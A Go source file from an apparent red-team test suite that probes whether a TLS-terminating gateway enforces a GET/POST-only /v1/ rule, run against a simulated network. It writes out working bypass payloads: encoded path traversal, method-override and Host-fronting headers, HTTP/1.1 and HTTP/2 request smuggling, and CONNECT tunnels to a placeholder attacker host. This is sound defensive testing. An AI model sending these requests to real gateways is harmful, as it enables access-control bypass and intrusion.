package redteam

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/custody-project/custody/redteam/simnet"
)

// requestProbes are the probes of requests inside TLS that the gateway terminates.
type requestProbes struct{ *catalogue }

// all adds the probes of a rule with http: the gateway terminates its TLS and
// allows only GET and POST below /v1/.
func (c requestProbes) all() {
	other := simnet.Fronted
	for _, h := range []struct {
		id, title string
		bypass    Bypass
		text      string
	}{
		{"method", "a method that the rule does not name", OtherWay, "DELETE /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"method-case", "a method in lower case", OtherWay, "delete /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"method-override", "an allowed method, and another one in a header", OtherWay, "POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-HTTP-Method: DELETE\r\nContent-Length: 0\r\n\r\n"},
		{"method-query", "an allowed method, and another one in the query", OtherWay, "POST /v1/{T}?_method=DELETE HTTP/1.1\r\nHost: {H}\r\nContent-Length: 0\r\n\r\n"},
		{"path-override", "an allowed path, and another one in a header", OtherWay, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Envoy-Original-Path: /admin\r\n\r\n"},
		{"path-destination", "an allowed path, and a second one in WebDAV's header", OtherWay, "POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nDestination: https://{H}/admin\r\nContent-Length: 0\r\n\r\n"},
		{"path", "a path that the rule does not name", OtherWay, "GET /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-dots", "dot segments that lead out of the path", OtherWay, "GET /v1/../admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-encoded-dots", "dot segments that lead out of the path, percent-encoded", OtherWay, "GET /v1/%2e%2e/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-encoded-slash", "dot segments that lead out of the path, with an encoded slash", OtherWay, "GET /v1/..%2fadmin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-twice-encoded", "dot segments that lead out of the path, encoded twice", OtherWay, "GET /v1/%252e%252e/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-backslash", "dot segments that lead out of the path, with a backslash", OtherWay, "GET /v1/..\\admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-parameter", "dot segments that lead out of the path, with a path parameter", OtherWay, "GET /v1/..;/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"path-slashes", "an empty segment", OtherWay, "GET //v1//../admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"host", "a Host other than the TLS server name", Fronting, "GET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"host-two", "two Hosts", HostHeader, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
		{"absolute", "another host in the request's target", Fronting, "GET https://{O}/v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"crlf-before", "an empty line before a request to another Host", LeadingCRLF, "\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"second-request", "a denied request after an allowed one on the same connection", HostHeader,
			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"connect", "CONNECT inside TLS", Fronting, "CONNECT {T}." + simnet.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + simnet.Attacker + ":443\r\n\r\n"},
		{"websocket", "an upgrade on a path that the rule does not name", Smuggling,
			"GET /admin/{T} HTTP/1.1\r\nHost: {H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"},
		{"cl-te", "Content-Length and Transfer-Encoding, another request inside", Smuggling,
			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"te-cl", "Transfer-Encoding and Content-Length, another request inside", Smuggling,
			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{N}\r\n{I}\r\n0\r\n\r\n"},
		{"te-te", "two Transfer-Encoding headers", Smuggling,
			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"te-cased", "Transfer-Encoding: chunked followed by another coding", Smuggling,
			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked, x\r\nContent-Length: 3\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"chunk-lf", "a chunk that ends in a bare LF", Smuggling,
			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n0\n\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
	} {
		text := c.fill(h.text, simnet.API, other)
		c.opened("http/"+h.id, h.title, h.bypass, "http/1.1", []byte(text))
	}
	token := c.token()
	c.opened("http/h2-authority", "another :authority in HTTP/2", Fronting, "h2", h2(":method", "GET", ":scheme", "https", ":authority", other, ":path", "/v1/"+token))
	token = c.token()
	c.opened("http/h2-host", "another host beside :authority", HostHeader, "h2",
		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/"+token, "host", other))
	c.last().proof = deniedOrEnded
	token = c.token()
	c.opened("http/h2-path", "a path that the rule does not name, in HTTP/2", OtherWay, "h2",
		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/admin/"+token))
	token = c.token()
	c.opened("http/h2-crlf", "a header in HTTP/2 with a request inside", Smuggling, "h2",
		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x", "x", "y\r\n\r\nGET /admin/"+token+" HTTP/1.1\r\nhost: "+simnet.API))
	c.last().proof = deniedOrEnded
	token = c.token()
	c.opened("http/h2-path-crlf", "a path in HTTP/2 with a request inside", Smuggling, "h2",
		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x HTTP/1.1\r\nhost: h\r\n\r\nGET /admin/"+token))
	c.last().proof = deniedOrEnded
	token = c.token()
	c.opened("http/h2-transfer-encoding", "Transfer-Encoding in HTTP/2", Smuggling, "h2",
		h2(":method", "POST", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x-"+token, "transfer-encoding", "chunked"))
	c.last().proof = deniedOrEnded
	token = c.token()
	c.opened("http/h2-connect", "CONNECT in HTTP/2", Fronting, "h2", h2(":method", "CONNECT", ":authority", token+"."+simnet.Attacker+":443"))
}

// opened adds a probe that sends bytes inside the TLS that the gateway terminates.
func (c requestProbes) opened(id, title string, bypass Bypass, alpn string, say []byte) {
	c.add(Probe{ID: id, Title: title, Bypass: bypass, task: &task{
		Do: "talk", Name: simnet.API, Port: 443, TLS: &tlsTask{SNI: simnet.API, ALPN: []string{alpn}}, Send: []piece{{Data: say}}, Timeout: 8,
	}})
}

// h2 returns the bytes of an HTTP/2 client for one request with these header fields, alternating names and values.
func h2(fields ...string) []byte {
	var block, out bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := 0; i < len(fields); i += 2 {
		enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a Buffer never fails
	}
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&out, strings.NewReader(""))
	f.WriteSettings()
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
	return out.Bytes()
}
